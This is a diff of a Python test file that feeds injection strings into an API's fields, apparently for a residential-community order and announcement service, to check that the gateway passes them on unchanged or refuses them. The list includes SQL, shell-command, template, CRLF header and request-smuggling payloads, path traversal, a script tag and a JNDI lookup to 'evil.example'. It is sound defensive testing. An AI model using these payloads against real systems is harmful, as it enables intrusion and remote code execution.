@@ -16,36 +16,23 @@ from schema_routes import node_types, root_routes, texts_within
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
 MARK = "mark"
-TEXTS = {
-    "another field": f"{MARK}&status=1&xiaoqu=00001",
-    "another field in escapes": f"{MARK}%26status%3D1",
-    "an equals sign": f"{MARK}=1=1",
-    "a semicolon and another field": f"{MARK};token=a",
-    "a field like PHP's": f"{MARK}[]=1&a[b]=c",
-    "a line break and a header": f"{MARK}\r\nx-evil: 1",
-    "a line break and another request": f"{MARK}\r\n\r\nPOST /api/v1/order/new HTTP/1.1\r\nhost: a\r\n\r\n",
-    "a line break in escapes": f"{MARK}%0d%0ax-evil:%201",
-    "a line separator": f"{MARK}\u2028\u2029\u0085",
-    "a NUL": f"{MARK}\0",
-    "a NUL in escapes": f"{MARK}%00",
-    "another path": f"../../{MARK}/../order/new",
-    "another path in escapes": f"..%2f..%2f{MARK}",
-    "another address": f"http://evil.example/{MARK}",
-    "a quotation mark": f'{MARK}","phone":"19900000001',
-    "a quotation mark in escapes": f"{MARK}\\u0022,\\u0022phone\\u0022:1",
-    "the end of an object": f'{MARK}"}},{{"a":"b',
-    "a backslash at the end": f"{MARK}\\",
-    "SQL": f"{MARK}' OR '1'='1' -- ",
-    "a command": f"{MARK}; $(id) `id` | id",
-    "a template": f"{MARK}{{{{7*7}}}}${{7*7}}<%= 7 %>",
-    "a look-up by name": f"${{jndi:ldap://evil.example/{MARK}}}",
-    "markup": f"<script>{MARK}</script>",
-    "a plus and blanks": f"{MARK} + 1 %20",
-    "the other way round": f"{MARK}\u202e\u2066\u200b",
-    "characters beyond the first plane": f"{MARK}\U00020bb7\U0001f600",
-    "an accent that may be written in two ways": f"{MARK}e\u0301\u00e9",
-    "wide characters": f"{MARK}＆ｓｔａｔｕｓ＝１",
-}
+TEXTS = [
+    # another field
+    *(f"{MARK}&status=1&xiaoqu=00001", f"{MARK}%26status%3D1", f"{MARK}=1=1", f"{MARK};token=a", f"{MARK}[]=1&a[b]=c"),
+    # a header, another request, other ends of a line or of the text
+    *(f"{MARK}\r\nx-evil: 1", f"{MARK}\r\n\r\nPOST /api/v1/order/new HTTP/1.1\r\nhost: a\r\n\r\n"),
+    *(f"{MARK}%0d%0ax-evil:%201", f"{MARK}\u2028\u2029\u0085", f"{MARK}\0", f"{MARK}%00"),
+    # another path or address
+    *(f"../../{MARK}/../order/new", f"..%2f..%2f{MARK}", f"http://evil.example/{MARK}"),
+    # the end of a text or an object in JSON
+    *(f'{MARK}","phone":"19900000001', f"{MARK}\\u0022,\\u0022phone\\u0022:1", f'{MARK}"}},{{"a":"b', f"{MARK}\\"),
+    # SQL, a command, a template, a look-up by name, markup
+    *(f"{MARK}' OR '1'='1' -- ", f"{MARK}; $(id) `id` | id", f"{MARK}{{{{7*7}}}}${{7*7}}<%= 7 %>"),
+    *(f"${{jndi:ldap://evil.example/{MARK}}}", f"<script>{MARK}</script>"),
+    # a plus and blanks, the other way round, beyond the first plane, an accent in two ways, wide characters
+    *(f"{MARK} + 1 %20", f"{MARK}\u202e\u2066\u200b", f"{MARK}\U00020bb7\U0001f600", f"{MARK}e\u0301\u00e9"),
+    f"{MARK}＆ｓｔａｔｕｓ＝１",
+]
 
 FIELDS = {
     "shenheList": {"community_identifier", "type", "status", "page", "per_page"},
@@ -72,7 +59,7 @@ FIELDS = {
 HEADERS = {"host", "authorization", "content-type", "content-length", "accept", "accept-encoding", "user-agent"}
 HEADERS |= {"connection", "x-request-id", "traceparent"}
 
-PAYER = ("payer.phone.phone", "payer.phone.name", "payer.parkingNumber")
+CHARGED = ("remark", "details.name", "details.value", "payer.phone.phone", "payer.phone.name", "payer.parkingNumber")
 ANNOUNCED = ("title", "content", "manager", "logo", "images")
 SENT = {
     "people": ("name", "phone"),
@@ -82,11 +69,8 @@ SENT = {
     ),
     **dict.fromkeys(("rejectShenhe", "rejectShenhes"), ("reason",)),
     **dict.fromkeys(("updateRepair", "updateRepairs"), ("reply",)),
-    "createOrder": ("title", "manager", "remark", "details.name", "details.value", *PAYER),
-    "createOrders": (
-        *("title", "manager"),
-        *(f"orders.{place}" for place in ("remark", "details.name", "details.value", *PAYER)),
-    ),
+    "createOrder": ("title", "manager", *CHARGED),
+    "createOrders": ("title", "manager", *(f"orders.{place}" for place in CHARGED)),
     **dict.fromkeys(("createAnnouncement", "createAnnouncements"), ANNOUNCED),
 }
 """Where a text goes to a platform. Of all else only the gateway looks at it, or it is of letters and digits alone."""
@@ -95,16 +79,13 @@ SENT = {
 def texts_in(value: str) -> Iterator[str]:
     """A field's value, and the texts in it where it is JSON."""
     yield value
-    if value.startswith(("{", "[", '"')):
-        waiting = [json.loads(value)]
-        while waiting:
-            found = waiting.pop()
-            if isinstance(found, str):
-                yield from texts_in(found)
-            elif isinstance(found, dict):
-                waiting += [*found, *found.values()]
-            elif isinstance(found, list):
-                waiting += found
+    waiting = [json.loads(value)] if value.startswith(("{", "[", '"')) else []
+    while waiting:
+        found = waiting.pop()
+        if isinstance(found, str):
+            yield from texts_in(found)
+        elif isinstance(found, dict | list):
+            waiting += [*found, *found.values()] if isinstance(found, dict) else found
 
 
 def check(target: Any, text: str) -> int:
@@ -134,7 +115,7 @@ async def test_injected_text_is_sent_unchanged_or_refused(target, bystanders, ro
     async for _ in bystanders.unharmed():
         for name, argument in root.definition.args.items():
             for place, _ in texts_within(argument.type, ids, ""):
-                for text in [*TEXTS.values()][next(numbers) % 3 :: 3]:
+                for text in TEXTS[next(numbers) % 3 :: 3]:
                     target.sandbox.reset()
                     given = dict(texts_within(argument.type, ids, text))[place]
                     if "idempotencyKey" in given and place != ".idempotencyKey":
